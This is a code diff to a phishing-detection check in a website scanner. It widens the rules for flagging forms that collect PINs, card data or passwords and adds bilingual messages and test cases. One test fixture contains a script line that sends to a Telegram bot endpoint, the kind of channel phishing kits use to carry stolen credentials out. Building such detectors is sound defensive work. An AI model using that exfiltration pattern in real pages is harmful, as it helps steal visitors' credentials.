@@ -3,7 +3,10 @@
 ## What it does
 Reads the fields of the forms of the front page, and of the further pages of this visit (odd places
 first, see CONTENT.GAMBLING), and looks for two or more that open a bank account or a wallet: PIN,
-one-time code, card number, CVV, mother's maiden name.
+one-time code, card number, CVV, mother's maiden name. One of them, or a password, is enough when the
+form ends in a messenger's bot, a rented box or at a bare address; one of them also when it goes to a
+stranger's host or the page threatens; and either when the page speaks in the name of a bank or wallet
+whose host this is not.
 
 ## Why it matters
 A forged form under an official name takes people's savings, and they trust it because of that name.
@@ -15,7 +18,8 @@ who may have filled it in.
 ## Limits
 Only forms in the pages as served are read, and no more than six further pages a visit; a page that
 nothing on the site leads to is not found. A genuine payment page that asks for card data itself should
-not do so either: leave that to a licensed payment service.
+not do so either: leave that to a licensed payment service. An ordinary login on a vendor's host is not
+accused, though its vendor may be a thief.
 
 ## References
 BSSN Regulation 1/2024 (cyber incidents); UU ITE article 35; PCI DSS (handling of card data).
@@ -47,7 +51,7 @@ from ronda.engine.checks.examples import URL, failure, http, page
 from ronda.engine.checks.helpers import clip, own_answer, own_page
 from ronda.engine.checks.legal import BSSN_INCIDENT, PERSONAL_DATA
 from ronda.engine.content.inner import UNSEEN, inner_pages
-from ronda.engine.content.phishing import Asked, asks_for_secrets
+from ronda.engine.content.phishing import Asked, lures
 from ronda.engine.text import Text
 
 META = Meta(
@@ -57,8 +61,8 @@ META = Meta(
         "Tidak ada formulir yang meminta PIN atau OTP", "No form asks for a PIN or one-time code"
     ),
     problem=Text(
-        "Formulir di halaman depan meminta PIN, OTP, atau data kartu",
-        "A form on the front page asks for PIN, one-time code or card data",
+        "Formulir meminta PIN, OTP, data kartu, atau sandi untuk pihak lain",
+        "A form asks for PIN, one-time code, card data or a password for a stranger",
     ),
     finding_class="phishing",
     severity=Severity.CRITICAL,
@@ -100,7 +104,7 @@ def judge(seen: Seen) -> Verdict:
     got = own_answer(seen)
     if isinstance(got, Verdict):
         return got
-    if found := asks_for_secrets(seen.page()):
+    if found := lures(seen.page(), seen.http().body, seen.site.host):
         return _accused(
             PAGE_VISITOR,
             found,
@@ -113,7 +117,7 @@ def judge(seen: Seen) -> Verdict:
     for key, answer, inside in inner_pages(seen.artifacts):
         if isinstance(answer, Failure):
             unseen = unseen or (NotSeen(key, answer) if answer.kind in UNSEEN else None)
-        elif inside is not None and (found := asks_for_secrets(inside)):
+        elif inside is not None and (found := lures(inside, answer.body, seen.site.host)):
             path = key.removeprefix(INNER_PREFIX)
             said = Text("Formulir di {path} meminta {asked}.", "A form at {path} asks for {asked}.")
             return _accused(key, found, said.fill(path=clip(path)[:120], asked="{asked}"))
@@ -133,11 +137,27 @@ def judge(seen: Seen) -> Verdict:
 def _accused(key: str, found: Asked, said: Text) -> Verdict:
     where = Text("isian formulir dan tujuannya", "the form's fields and where it sends them")
     asked = ", ".join(found.secrets)
+    more = _WHY.get(found.why, Text("", ""))
+    said = said.fill(asked=asked)
     return failed(
-        said.fill(asked=asked),
+        Text(f"{said.id}{more.id}", f"{said.en}{more.en}"),
         Evidence(key, where, clip(f"{asked} -> {found.action}")),
         confidence=0.9,
     )
+
+
+_WHY = {
+    "box": Text(
+        " Isiannya dikirim ke bot perpesanan atau kotak sewaan.",
+        " What is filled in goes to a messenger's bot or a rented box.",
+    ),
+    "abroad": Text(" Isiannya dikirim ke host pihak lain.", " It is sent to a stranger's host."),
+    "brand": Text(
+        " Halaman itu memakai nama bank atau dompet yang bukan pemilik alamat ini.",
+        " The page uses the name of a bank or wallet that does not own this address.",
+    ),
+    "pressure": Text(" Halaman itu mendesak pengunjung.", " The page presses its visitors."),
+}
 
 
 CASES = (
@@ -199,6 +219,47 @@ CASES = (
         },
         Outcome.FAIL,
         says="CVV",
+    ),
+    Case(
+        "A login that ends in a messenger's bot",
+        {
+            HTTP_VISITOR: http(
+                "<script>fetch('https://api.telegram.org/bot1:x/sendMessage')</script>"
+            ),
+            PAGE_VISITOR: page(
+                forms=(Form(URL, "post", (("nik", "text"), ("sandi", "password"))),)
+            ),
+        },
+        Outcome.FAIL,
+        says="bot",
+    ),
+    Case(
+        "A login on the vendor's own host",
+        {
+            HTTP_VISITOR: http(),
+            PAGE_VISITOR: page(
+                forms=(
+                    Form(
+                        "https://masuk.vendorcontoh.co.id/login",
+                        "post",
+                        (("nik", "text"), ("sandi", "password")),
+                    ),
+                )
+            ),
+        },
+        Outcome.PASS,
+    ),
+    Case(
+        "A bank's login on an office's name",
+        {
+            HTTP_VISITOR: http(),
+            PAGE_VISITOR: page(
+                title="Bank Purnama - Masuk",
+                forms=(Form(URL, "post", (("user", "text"), ("password", "password"))),),
+            ),
+        },
+        Outcome.FAIL,
+        says="bank",
     ),
     Case(
         "The page could not be read",
